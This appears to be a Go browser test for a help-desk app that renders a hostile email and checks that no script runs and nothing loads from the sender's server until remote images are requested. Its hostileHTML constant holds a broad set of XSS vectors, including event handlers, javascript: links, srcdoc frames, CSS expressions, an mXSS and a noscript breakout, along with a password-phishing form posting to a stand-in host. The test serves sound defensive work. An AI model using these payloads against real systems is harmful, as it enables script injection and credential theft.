package browser

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"frontdesk/ticket"
)

// hostileHTML is a mail's HTML that tries every way of running script, or of
// calling home, that a mail's sender has: script elements, event handlers,
// javascript: links, frames, meta refresh, CSS expressions and remote
// stylesheets, a base URL, a form, and remote images and backgrounds. Every
// script would set window.top.__pwned, change the title and open a dialog.
// REMOTE stands for the sender's web server.
const hostileHTML = `<html><head>
<meta http-equiv="refresh" content="0;url=javascript:window.top.__pwned='meta-refresh';alert('meta-refresh')">
<meta http-equiv="refresh" content="0;url=REMOTE/meta-refresh">
<base href="REMOTE/base/">
<link rel="stylesheet" href="REMOTE/link.css">
<style>@import url(REMOTE/import.css); body { background: url(REMOTE/style-bg.png) } p { width: expression(window.top.__pwned='css-expression') }</style>
<script>window.top.__pwned='script'; top.document.title='pwned'; alert('script')</script>
<script src="REMOTE/script.js"></script>
</head>
<body onload="window.top.__pwned='body-onload';alert('body-onload')" background="REMOTE/body-background.png">
<p style="background-image: url(REMOTE/inline-bg.png); width: expression(alert('css'))">My order 553 never arrived.</p>
<img src="x" onerror="window.top.__pwned='img-onerror';alert('img-onerror')">
<img src="REMOTE/pixel.png" alt="remote pixel">
<svg onload="window.top.__pwned='svg-onload';alert('svg-onload')"><script>alert('svg-script')</script><circle r="5"/></svg>
<p><a href="javascript:window.top.__pwned='javascript-link';top.document.title='pwned';alert('javascript-link')">Click here for your refund</a></p>
<p><a href=" JaVaScRiPt:window.top.__pwned='javascript-link-2'">Or here</a></p>
<iframe srcdoc="<script>window.top.__pwned='srcdoc';alert('srcdoc')</script>" src="REMOTE/frame.html"></iframe>
<object data="REMOTE/object.swf"></object><embed src="REMOTE/embed.swf">
<form action="REMOTE/steal" method="post"><input name="password" value="hunter2"><button type="submit">Confirm your password</button></form>
<table background="REMOTE/table-bg.png"><tr><td>a table</td></tr></table>
<video poster="REMOTE/poster.png" src="REMOTE/video.mp4" autoplay></video>
<div onmouseover="window.top.__pwned='mouseover';alert('mouseover')">Hover me</div>
<math><mtext><table><mglyph><style><img src=x onerror="window.top.__pwned='mxss';alert('mxss')"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.top.__pwned='noscript'>"></p></noscript>
</body></html>`

// pwnedJS lists what any script set in the page or in any frame it can
// reach: "" when no script ran.
const pwnedJS = `(() => {
	const seen = [];
	const walk = w => {
		try { if (typeof w.__pwned !== "undefined") seen.push(String(w.__pwned)); } catch (e) {}
		try { for (let i = 0; i < w.frames.length; i++) walk(w.frames[i]); } catch (e) {}
	};
	walk(window);
	return seen.join(", ");
})()`

// TestHostileMailRunsNoScript: a mail stored with hostile HTML, unsanitized
// (as a store written by an older policy could hold it), shown on the
// ticket page: no script runs, in the page or in the mail's frame, not even
// when its links are clicked and its text hovered, and nothing loads from
// the sender's server until the assistant asks for the remote images, which
// then load and still run nothing.
func TestHostileMailRunsNoScript(t *testing.T) {
	d := newDesk(t, deskOptions{})
	d.addUser(t, "assistant", "sam", "sam-first-day-2026")
	remote := startRemoteSite(t)
	id := d.create(t, ticket.NewTicket{
		Channel: ticket.ChannelEmail, Queue: "support", Subject: "Where is my order?", Assignee: "sam",
		Customer: ticket.Customer{Name: "Mallory", Email: "mallory@evil.example"},
		Message: ticket.NewMessage{
			SourceKey: "browser:xss", Channel: ticket.ChannelEmail,
			From: "Mallory <mallory@evil.example>", To: []string{"support@example.com"},
			Subject: "Where is my order?", Text: "My order 553 never arrived.",
			HTML: strings.ReplaceAll(hostileHTML, "REMOTE", remote.srv.URL),
		},
	}).TicketID

	b := newBrowser(t, d.url, browserOptions{})
	b.login("sam", "sam-first-day-2026")
	if st := b.open("/tickets/" + id); st != 200 {
		t.Fatalf("ticket page: %d", st)
	}
	title := eval[string](b, `document.title`)
	frameLoaded := `(() => {
		const f = document.querySelector("iframe.mail-html");
		return !!f && !!f.contentDocument && f.contentDocument.readyState === "complete" &&
			f.contentDocument.body.textContent.includes("never arrived");
	})()`
	b.waitJS("the mail in its frame (or a script that ran)", frameLoaded+" || "+pwnedJS+` !== ""`)
	b.checkNoScriptRan(title)
	if !eval[bool](b, frameLoaded) {
		t.Fatalf("the mail's frame does not show the mail")
	}

	// Click the javascript: links and the form's button, and hover the
	// handler, as a person does: with the mouse, where the text is.
	for _, text := range []string{"Click here for your refund", "Or here", "Confirm your password", "Hover me"} {
		x, y := b.frameTextAt(text)
		if text == "Hover me" {
			b.do("hover "+text, chromedp.MouseEvent(chromedp.MouseMoved, x, y))
			continue
		}
		b.do("click "+text, chromedp.MouseClickXY(x, y))
	}
	if p := b.path(); p != "/tickets/"+id {
		t.Errorf("after the clicks the page is %s", p)
	}
	if src := eval[string](b, `document.querySelector("iframe.mail-html").contentWindow.location.pathname`); src != "/tickets/"+id+"/messages/m1/body" {
		t.Errorf("after the clicks the mail's frame shows %s", src)
	}
	b.checkNoScriptRan(title)
	b.screenshot("ticket-hostile-mail")
	if got := remote.requests(); len(got) > 0 {
		t.Errorf("the sender's server got requests before the images were asked for: %v", got)
	}

	// Show remote images: the frame reloads with them, and the sender's
	// server gets the image request, and nothing else.
	if !b.exists("a.show-images") {
		t.Fatalf("the ticket page does not offer to show the remote images\n%s", b.text("main"))
	}
	b.do("click Show remote images", chromedp.Click(chromedp.CSS("a.show-images")))
	waitFor(t, "the remote image's request", func() bool { return slices.Contains(remote.requests(), "GET /pixel.png") })
	b.waitJS("the mail's frame with remote images", `(() => {
		const f = document.querySelector("iframe.mail-html");
		const img = f.contentDocument.querySelector('img[alt="remote pixel"]');
		return f.contentWindow.location.search === "?images=remote" && f.contentDocument.readyState === "complete" &&
			!!img && img.complete && img.naturalWidth === 1;
	})()`)
	if p := b.path(); p != "/tickets/"+id {
		t.Errorf("Show remote images navigated the page to %s, want only its frame", p)
	}
	if note := b.text(".remote-images"); note != "Remote images are shown." {
		t.Errorf("after showing the images the notice says %q", note)
	}
	for _, r := range remote.requests() {
		if r != "GET /pixel.png" {
			t.Errorf("the sender's server got %s: only the image was asked for", r)
		}
	}

	// No script ran, anywhere.
	b.checkNoScriptRan(title)
	// The dialog watch works: a dialog the test opens itself is seen.
	b.do("open a dialog", chromedp.Evaluate[chromedp.Void](`setTimeout(() => alert("control"), 0)`))
	waitFor(t, "the control dialog", func() bool { return len(b.openedDialogs()) > 0 })
	if got := b.openedDialogs(); len(got) != 1 || got[0] != "alert: control" {
		t.Errorf("dialogs: %v, want only the test's own", got)
	}
	b.screenshot("ticket-hostile-mail-images")
}

// checkNoScriptRan fails the test if a script set __pwned in the page or a
// frame, changed the page's title from title, or opened a dialog.
func (b *browser) checkNoScriptRan(title string) {
	b.t.Helper()
	if p := eval[string](b, pwnedJS); p != "" {
		b.t.Errorf("script ran: window.__pwned set by %s", p)
	}
	if now := eval[string](b, `document.title`); now != title {
		b.t.Errorf("the page's title changed from %q to %q", title, now)
	}
	if got := b.openedDialogs(); len(got) > 0 {
		b.t.Errorf("JavaScript dialogs opened: %v", got)
	}
}

// frameTextAt returns the page coordinates of the middle of text in the
// mail's frame, scrolled into view; it fails the test when the text is not
// there.
func (b *browser) frameTextAt(text string) (x, y float64) {
	b.t.Helper()
	pos := eval[[]float64](b, fmt.Sprintf(`(() => {
		const f = document.querySelector("iframe.mail-html");
		const d = f.contentDocument;
		const w = d.createTreeWalker(d.body, NodeFilter.SHOW_TEXT);
		for (let n = w.nextNode(); n; n = w.nextNode()) {
			const i = n.data.indexOf(%q);
			if (i < 0) continue;
			n.parentElement.scrollIntoView({block: "center"});
			const r = d.createRange();
			r.setStart(n, i);
			r.setEnd(n, i + %d);
			const box = r.getBoundingClientRect(), fb = f.getBoundingClientRect();
			return [fb.left + f.clientLeft + box.left + box.width / 2, fb.top + f.clientTop + box.top + box.height / 2];
		}
		return [];
	})()`, text, len(text)))
	if len(pos) != 2 {
		b.t.Fatalf("%q is not in the mail's frame", text)
	}
	return pos[0], pos[1]
}
